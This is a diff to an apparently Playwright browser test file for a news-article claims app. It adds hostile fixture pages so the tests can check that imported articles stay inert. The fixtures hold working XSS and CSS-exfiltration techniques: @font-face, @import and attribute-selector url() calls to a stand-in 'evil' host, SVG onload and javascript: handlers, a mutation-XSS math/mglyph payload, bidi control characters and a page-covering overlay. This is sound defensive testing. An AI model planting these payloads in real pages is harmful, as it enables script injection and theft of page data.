@@ -41,10 +41,26 @@ const WORDS = (evil: string) => `Fighting near the river <script>globalThis.hit=
 const RLO = "\u202e", PDF = "\u202c", LRI = "\u2066", ZW = "\u200b";
 const BIDI = `${RLO}Fighting near the river\n\nThe Example Courier, 4 March 2019\n\n${said(`${RLO}the Syrian Observatory for Human Rights`)}\n\n${LRI}${LRI}${LRI}${said(`the ${ZW}Syrian Observatory${PDF}${PDF} for Human Rights`)}\n`;
 const LINE = `Fighting near the river\n\n${said("the Syrian Observatory for Human Rights")} ${"and on and on, ".repeat(35_000)}${"x".repeat(500_000)}`;
+/** Five million characters without a line break, most of them one word. */
+const LONG_LINE = `Fighting near the river\n\n${said("the Syrian Observatory for Human Rights")} ${"and on and on, ".repeat(20_000)}${"x".repeat(4_700_000)}`;
+/** Styles that send home what is on the page, or cover it; with them marks that only a style brings to life. */
+const STYLED = (evil: string) => `<!doctype html><html><head><title>Fighting near the river</title><style>
+@font-face { font-family: leak; src: url("${evil}/font?A"); unicode-range: U+41 } @import "${evil}/second.css"; :root { --paper: url("${evil}/var"); background: url("${evil}/root") }
+input[value^="s"] ~ * { background: url("${evil}/attr?s") } a:visited { background: url("${evil}/visited") } body:has(mark) { background: image-set("${evil}/has" 1x) }
+main { position: fixed; inset: 0; z-index: 9999; cursor: url("${evil}/cursor"), auto } p::after { content: url("${evil}/after") } @property --x { syntax: "<url>"; inherits: false; initial-value: url("${evil}/property") }
+</style><link rel=preload as=style href="${evil}/preload" onload="globalThis.hit=41"></head><body style="background:url(${evil}/inline)"><article><h1>Fighting near the river</h1>
+<p style="font-family: leak; position: fixed; inset: 0; background: url('${evil}/p')">${said("the Syrian Observatory for Human Rights")}</p><p class="skip chosen pointed" id="content">The army said it had repelled the attack near the river, and sent more men there on Sunday.</p></article></body></html>`;
+/** A drawing in the place of a page, with all that can run in one. */
+const DRAWN = (evil: string) => `<!doctype html><html><head><title>Fighting near the river</title></head><body><article><h1>Fighting near the river</h1><p>${said("the Syrian Observatory for Human Rights")}</p>
+<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.hit=51"><style>@import url(${evil}/svg.css);</style><use href="${evil}/use.svg#x"/><image href="${evil}/image.svg"/><feImage href="${evil}/fe"/>
+<a href="javascript:globalThis.hit=52"><text>The fighting went on near the river all day, as residents said.</text></a><animate attributeName="href" values="javascript:globalThis.hit=53" onbegin="globalThis.hit=54"/><set attributeName="onmouseover" to="globalThis.hit=55"/>
+<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="globalThis.hit=56"><img src="${evil}/foreign" onerror="globalThis.hit=57"/><p>The army said it had repelled the attack near the river.</p></body></foreignObject><script href="${evil}/svg.js">globalThis.hit=58</script></svg>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hit=59&gt;"></mglyph></table></mtext></math></article></body></html>`;
 const NESTED = `<!doctype html><html><head><title>Fighting near the river</title></head><body>${"<div><blockquote><ul><li><span>".repeat(4_000)}<p>${said("the Syrian Observatory for Human Rights")}</p></body></html>`;
 
 await inBrowser("a hostile article", { examples: false }, (desk) => {
-  const cases = (): [name: string, type: string, content: string][] => [["markup.html", "text/html", HOSTILE(evil)], ["markup.txt", "text/plain", WORDS(evil)], ["bidi.txt", "text/plain", BIDI], ["line.txt", "text/plain", LINE], ["nested.html", "text/html", NESTED]];
+  const cases = (): [name: string, type: string, content: string][] => [["markup.html", "text/html", HOSTILE(evil)], ["markup.txt", "text/plain", WORDS(evil)], ["bidi.txt", "text/plain", BIDI], ["line.txt", "text/plain", LINE], ["nested.html", "text/html", NESTED],
+    ["styled.html", "text/html", STYLED(evil)], ["drawn.html", "text/html", DRAWN(evil)], ["long-line.txt", "text/plain", LONG_LINE]];
 
   /** Nothing ran, nothing loaded, nothing left its frame, and the page is still the desk's. */
   async function inert(page: Page): Promise<void> {
@@ -59,7 +75,7 @@ await inBrowser("a hostile article", { examples: false }, (desk) => {
     expect(caught).toEqual([]);
   }
 
-  test.each([0, 1, 2, 3, 4])("of kind %i is inert before it is kept, and after", async (kind) => {
+  test.each([0, 1, 2, 3, 4, 5, 6, 7])("of kind %i is inert before it is kept, and after", async (kind) => {
     const [name, mimeType, content] = cases()[kind]!;
     const page = await desk.page();
     await desk.visit(page, "/add");
@@ -86,6 +102,11 @@ await inBrowser("a hostile article", { examples: false }, (desk) => {
     for (const claim of claims) expect((await page.locator(`mark[data-claims~="${claim.id}"]`).allTextContents()).join("")).toBe(claim.span.exact);
     expect(document.text.length).toBeGreaterThan(100);
 
+    await page.getByRole("button", { name: "Show the original beside" }).click();
+    await until(() => page.locator(".original pre").textContent()).toContain("the Syrian Observatory");
+    expect(await page.locator(".original pre *").count()).toBe(0);
+    await inert(page);
+
     await page.context().close();
   });
 
@@ -103,7 +124,7 @@ await inBrowser("a hostile article", { examples: false }, (desk) => {
     const { documents } = await desk.api<DocumentsAnswer>("documents");
     expect(documents.length).toBe(cases().length);
     const page = await desk.page();
-    for (const address of ["/", "/articles", "/review", ...events.map(({ id }) => `/events/${id}`)]) {
+    for (const address of ["/", "/articles", "/review", "/sources", "/embed", `/compare?a=${documents[0]!.id}&b=${documents[1]!.id}`, ...events.map(({ id }) => `/events/${id}`)]) {
       await desk.visit(page, address);
       await inert(page);
     }
@@ -144,6 +165,20 @@ await inBrowser("a hostile article", { examples: false }, (desk) => {
     const lefts = await row.locator("> *").evaluateAll((parts) => parts.map((part) => part.getBoundingClientRect().left));
     expect(lefts).toEqual([...lefts].sort((a, b) => a - b));
     expect(await link.evaluate((element) => getComputedStyle(element).unicodeBidi)).toMatch(/isolate/u);
+    await page.context().close();
+  });
+
+  test("an event of theirs as one file runs nothing and loads nothing, opened from a disk as from anywhere", async () => {
+    const { events } = await desk.api<EventsAnswer>("events");
+    const page = await desk.page();
+    for (const { id } of events) {
+      const sent = await fetch(`${desk.url}/api/events/${encodeURIComponent(id)}/page`);
+      await page.setContent(await sent.text());
+      await page.locator("blockquote").first().waitFor();
+      expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
+      expect(await page.locator("script, img, iframe, object, link, svg, form, input").count()).toBe(0);
+    }
+    expect(caught).toEqual([]);
     await page.context().close();
   });
 
